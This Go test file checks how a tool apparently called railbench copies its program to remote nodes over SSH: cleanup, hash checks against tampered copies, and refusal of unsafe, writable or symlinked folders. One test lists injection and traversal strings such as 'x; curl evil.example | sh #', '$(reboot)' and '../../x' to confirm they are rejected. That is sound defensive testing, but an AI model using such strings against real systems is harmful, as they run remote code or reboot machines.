package upload

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/railbench/railbench/assets/scripts"
	"github.com/railbench/railbench/runner"
	"github.com/railbench/railbench/runner/nodetest"
	"github.com/railbench/railbench/runner/testform"
	"github.com/railbench/railbench/steps"
	"github.com/railbench/railbench/steps/session"
)

func dial(t *testing.T, s *nodetest.Sshd) *runner.SSH {
	t.Helper()
	target, err := runner.Resolve(t.Context(), "node", s.Config)
	if err != nil {
		t.Fatal(err)
	}
	n := runner.NewSSH(runner.SSHOptions{Name: "node", Target: target, Ask: runner.NoAsker{}})
	t.Cleanup(func() { n.Close() })
	return n
}

// program is one that says who it is, in a folder of its own.
func program(t *testing.T, system, arch string) Program {
	t.Helper()
	own := filepath.Join(t.TempDir(), "railbench")
	if err := os.WriteFile(own, []byte("#!/bin/sh\necho handed over\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	return Program{Own: own, OS: system, Arch: arch}
}

func request(t *testing.T, peer runner.Node) session.Request {
	t.Helper()
	local := nodetest.Here("here")
	t.Cleanup(func() { local.Close() })
	return session.Request{
		Run: "rb-test", Nodes: [2]runner.Node{local, peer}, Rig: steps.NewRig("", false, 2),
		Tell: func(string, ...any) {},
	}
}

func gone(path string) bool {
	_, err := os.Lstat(path)
	return os.IsNotExist(err)
}

// A node without railbench gets this one, for the run and for its login alone.
func TestHandOver(t *testing.T) {
	n := dial(t, nodetest.StartSshd(t))
	p := program(t, runtime.GOOS, runtime.GOARCH)
	vars, stop, err := p.Start(t.Context(), request(t, n))
	if err != nil {
		t.Fatal(err)
	}
	if vars[steps.Here]["RAILBENCH"] != p.Own {
		t.Errorf("this machine is given %q", vars[steps.Here]["RAILBENCH"])
	}
	path := vars[steps.Peer]["RAILBENCH"]
	out, err := runner.Text(t.Context(), n,
		runner.Script{Name: "run it", Body: `"$P"`, Vars: map[string]string{"P": path}})
	if err != nil || strings.TrimSpace(out) != "handed over" {
		t.Errorf("%v: %q", err, out)
	}
	dir := filepath.Dir(path)
	if info, err := os.Stat(dir); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("%v: the folder has the mode %v", err, info)
	}
	if err := stop(); err != nil || !gone(dir) {
		t.Errorf("%v: the folder is there after the run: %v", err, !gone(dir))
	}
}

// relay leads to a server until it is cut.
func relay(t *testing.T, port int) (at int, cut func()) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	near := make(chan net.Conn, 1)
	go func() {
		in, err := ln.Accept()
		ln.Close() // one connection, and no other after it
		if err != nil {
			return
		}
		near <- in
		out, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		if err != nil {
			in.Close()
			return
		}
		go func() {
			_, _ = io.Copy(out, in)
			out.Close()
		}()
		_, _ = io.Copy(in, out)
		in.Close()
	}()
	t.Cleanup(func() { ln.Close() })
	return ln.Addr().(*net.TCPAddr).Port, func() { (<-near).Close() }
}

// Where the connection is lost, as when railbench is killed, the node clears the folder by itself.
func TestHandOverIsClearedByTheNode(t *testing.T) {
	s := nodetest.StartSshd(t)
	target, err := runner.Resolve(t.Context(), "node", s.Config)
	if err != nil {
		t.Fatal(err)
	}
	host, err := os.ReadFile(s.HostKey + ".pub")
	if err != nil {
		t.Fatal(err)
	}
	known := filepath.Join(t.TempDir(), "known")
	if err := os.WriteFile(known, append([]byte("node "), host...), 0o600); err != nil {
		t.Fatal(err)
	}
	port, cut := relay(t, s.Port)
	target.HostKeyAlias, target.KnownHosts, target.Port = "node", []string{known}, port
	n := runner.NewSSH(runner.SSHOptions{Name: "node", Target: target, Ask: runner.NoAsker{}})
	defer n.Close()
	vars, _, err := program(t, runtime.GOOS, runtime.GOARCH).Start(t.Context(), request(t, n))
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Dir(vars[steps.Peer]["RAILBENCH"])
	cut()
	for began := time.Now(); !gone(dir); time.Sleep(50 * time.Millisecond) {
		if time.Since(began) > 2*time.Minute {
			t.Fatalf("%s is still there", dir)
		}
	}
}

// damaging is a node to which not all arrives as it was sent.
type damaging struct{ *runner.SSH }

func (d damaging) Deliver(ctx context.Context, path string, content io.Reader) error {
	return d.SSH.Deliver(ctx, path, io.MultiReader(content, strings.NewReader("echo somebody else's\n")))
}

// What arrived is run only where it is what was sent.
func TestHandOverDamaged(t *testing.T) {
	n := dial(t, nodetest.StartSshd(t))
	vars, stop, err := program(t, runtime.GOOS, runtime.GOARCH).Start(t.Context(), request(t, damaging{n}))
	if err == nil || !strings.Contains(err.Error(), "it is not run") {
		t.Errorf("%v: %v", vars, err)
	}
	if vars[steps.Peer]["RAILBENCH"] != "" {
		t.Errorf("it is given to scripts: %v", vars)
	}
	if err := stop(); err != nil {
		t.Error(err)
	}
}

// To another platform goes what was built for it and lies next to this program; where nothing does, the error says
// how.
func TestHandOverToAnotherPlatform(t *testing.T) {
	n := dial(t, nodetest.StartSshd(t))
	p := program(t, "linux", "mips")
	name := "railbench-" + runtime.GOOS + "-" + runtime.GOARCH
	_, stop, err := p.Start(t.Context(), request(t, n))
	if err == nil || !strings.Contains(err.Error(), name) ||
		!strings.Contains(err.Error(), "GOARCH="+runtime.GOARCH+" go build") {
		t.Errorf("%v", err)
	}
	if err := stop(); err != nil {
		t.Error(err)
	}
	if err := os.Link(p.Own, filepath.Join(filepath.Dir(p.Own), name)); err != nil {
		t.Fatal(err)
	}
	vars, stop, err := p.Start(t.Context(), request(t, n))
	if err != nil || vars[steps.Peer]["RAILBENCH"] == "" {
		t.Errorf("%v: %v", vars, err)
	}
	if err := stop(); err != nil {
		t.Error(err)
	}
}

// What a node calls itself gets into no path here, and into no command that a user copies.
func TestAPlatformIsAWord(t *testing.T) {
	p := program(t, "linux", "arm64")
	for _, word := range []string{
		"", "x; curl evil.example | sh #", "$(reboot)", "`reboot`", "../../x", "a b", "x\x1b[2J", "-x",
		strings.Repeat("x", 1<<20),
	} {
		for _, pair := range [][2]string{{word, "arm64"}, {"linux", word}} {
			_, err := p.file(pair[0], pair[1])
			if err == nil || strings.Contains(err.Error(), "go build") || len(err.Error()) > 200 {
				t.Errorf("%.40q: %.300v", pair, err)
			}
		}
	}
}

// What a node says of itself and of its own railbench.
func TestFound(t *testing.T) {
	for text, want := range map[string]platform{
		"Linux\naarch64\n": {os: "linux", arch: "arm64"},
		"Linux\nx86_64\n/usr/bin/railbench\nrailbench v1.2.3 (go1.26.8, linux/amd64)\nabc\n": {
			os: "linux", arch: "amd64", path: "/usr/bin/railbench", version: "v1.2.3", sum: "abc",
		},
		"Linux\nriscv64\n/opt/railbench\n": {os: "linux", arch: "riscv64", path: "/opt/railbench"},
		"":                                 {},
	} {
		if got := found(text); got != want {
			t.Errorf("%q: %+v, want %+v", text, got, want)
		}
	}
}

// Where another user could put another program in the place of the one that was looked at none is put: every folder
// on the way counts, and so does who may write there in any way.
func TestPlace(t *testing.T) {
	testform.NeedsFull(t, "starts many processes")
	local := nodetest.Here("here")
	defer local.Close()
	real, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	// Without root a folder that everybody may write stands for another user's.
	give := func(path string, uid, gid int) error {
		if !testform.Root() {
			return os.Chmod(path, 0o777)
		}
		return os.Lchown(path, uid, gid)
	}
	for name, c := range map[string]struct {
		make func(dir string) error
		fine bool
	}{
		"one's own":           {func(string) error { return nil }, true},
		"everybody's":         {func(dir string) error { return os.Chmod(dir, 0o777) }, false},
		"everybody's, sticky": {func(dir string) error { return os.Chmod(dir, 0o777|os.ModeSticky) }, true},
		"somebody else's":     {func(dir string) error { return give(dir, 12345, 12345) }, false},
		"somebody else's, sticky": {func(dir string) error {
			return errors.Join(os.Chmod(dir, 0o777|os.ModeSticky), give(dir, 12345, 12345))
		}, false},
		"another group's": {func(dir string) error { return errors.Join(give(dir, 0, 12345), os.Chmod(dir, 0o770)) }, false},
		"one's own group's": {func(dir string) error {
			return os.Chmod(dir, 0o770|os.ModeSetgid)
		}, false},
		"a group's that may only read": {func(dir string) error { return os.Chmod(dir, 0o750|os.ModeSetgid) }, true},
		"by an access list": {func(dir string) error {
			if exec.Command("setfacl", "-m", "u:12345:rwx", dir).Run() != nil {
				return os.Chmod(dir, 0o770) // which is how a list shows
			}
			return nil
		}, false},
		"below everybody's": {func(dir string) error { return os.Chmod(filepath.Dir(dir), 0o777) }, false},
		"below everybody's, sticky": {func(dir string) error {
			return os.Chmod(filepath.Dir(dir), 0o777|os.ModeSticky)
		}, true},
		"far below a group's":    {func(dir string) error { return os.Chmod(filepath.Dir(filepath.Dir(dir)), 0o775) }, false},
		"below somebody else's":  {func(dir string) error { return give(filepath.Dir(dir), 12345, 0) }, false},
		"missing":                {os.Remove, false},
		"returns\rover":          {func(string) error { return nil }, false},
		"of two\nlines":          {func(string) error { return nil }, false},
		"of $signs * and `true`": {func(string) error { return nil }, true},
		"an access list for what comes": {func(dir string) error {
			_ = exec.Command("setfacl", "-d", "-m", "u:12345:rwx", dir).Run() // a private folder in it masks the list
			return nil
		}, true},
		"a file": {func(dir string) error {
			return errors.Join(os.Remove(dir), os.WriteFile(dir, nil, 0o600))
		}, false},
		"a link into everybody's": {func(dir string) error {
			to := filepath.Join(filepath.Dir(dir), "open", "own")
			return errors.Join(os.MkdirAll(to, 0o700), os.Chmod(filepath.Dir(to), 0o777), os.Remove(dir), os.Symlink(to, dir))
		}, false},
	} {
		dir := filepath.Join(real, name, "above", "te mp")
		if err := errors.Join(os.MkdirAll(dir, 0o700), c.make(dir)); err != nil {
			t.Fatal(err)
		}
		out, err := runner.Text(t.Context(), local, runner.Script{
			Name: "place", Body: scripts.Upload + `place; rm -rf "$dir"; echo "$dir"`, Vars: map[string]string{"TMPDIR": dir},
		})
		if err != nil || strings.HasPrefix(out, dir+"/") != c.fine || strings.TrimSpace(out) == "" {
			t.Errorf("%s: %v: %q", name, err, out)
		}
	}
}

// The path of what lies there does not lead over a link, though the link leads to a good folder: the owner of
// the link may redirect it.
func TestPlaceBehindALink(t *testing.T) {
	local := nodetest.Here("here")
	defer local.Close()
	to, err := filepath.EvalSymlinks(t.TempDir())
	link := filepath.Join(t.TempDir(), "link")
	if err = errors.Join(err, os.Symlink(to, link)); err != nil {
		t.Fatal(err)
	}
	out, err := runner.Text(t.Context(), local, runner.Script{
		Name: "place", Body: scripts.Upload + `place; rm -rf "$dir"; echo "$dir"`, Vars: map[string]string{"TMPDIR": link},
	})
	if err != nil || !strings.HasPrefix(out, to+"/") {
		t.Errorf("%v: %q is not below %s", err, out, to)
	}
}

// A node's own program is neither run nor taken, by its hash or its version, where another user could exchange it
// before it runs.
func TestLook(t *testing.T) {
	local := nodetest.Here("here")
	defer local.Close()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	bin, linked := filepath.Join(dir, "bin"), filepath.Join(dir, "linked")
	path := filepath.Join(bin, "railbench")
	if err := errors.Join(os.MkdirAll(bin, 0o755), os.Mkdir(linked, 0o755),
		os.Symlink(path, filepath.Join(linked, "railbench")),
		os.WriteFile(path, []byte("#!/bin/sh\ntouch '"+dir+"/ran'\necho railbench v1.2.3\n"), 0o755)); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		what   string
		change func() error
		in     string
		fine   bool
	}{
		{"its own folder", func() error { return nil }, bin, true},
		{"a link", func() error { return os.Chmod(linked, 0o777) }, linked, true},
		{"a file of the group's", func() error { return os.Chmod(path, 0o775) }, bin, false},
		{"a folder of the group's", func() error {
			return errors.Join(os.Chmod(path, 0o755), os.Chmod(bin, 0o775))
		}, bin, false},
		{"a link to it", func() error { return nil }, linked, false},
	} {
		if err := c.change(); err != nil {
			t.Fatal(err)
		}
		text, err := runner.Text(t.Context(), local, runner.Script{
			Name: "look", Body: scripts.Upload + scripts.UploadLook,
			Vars: map[string]string{"PATH": c.in + ":" + os.Getenv("PATH")},
		})
		ran := os.Remove(filepath.Join(dir, "ran")) == nil
		p := found(text)
		if err != nil || (p.path == path && p.version == "v1.2.3" && p.sum != "") != c.fine ||
			(p.path != "" || ran) != c.fine {
			t.Errorf("%s: %+v, ran: %t, %v", c.what, p, ran, err)
		}
	}
}
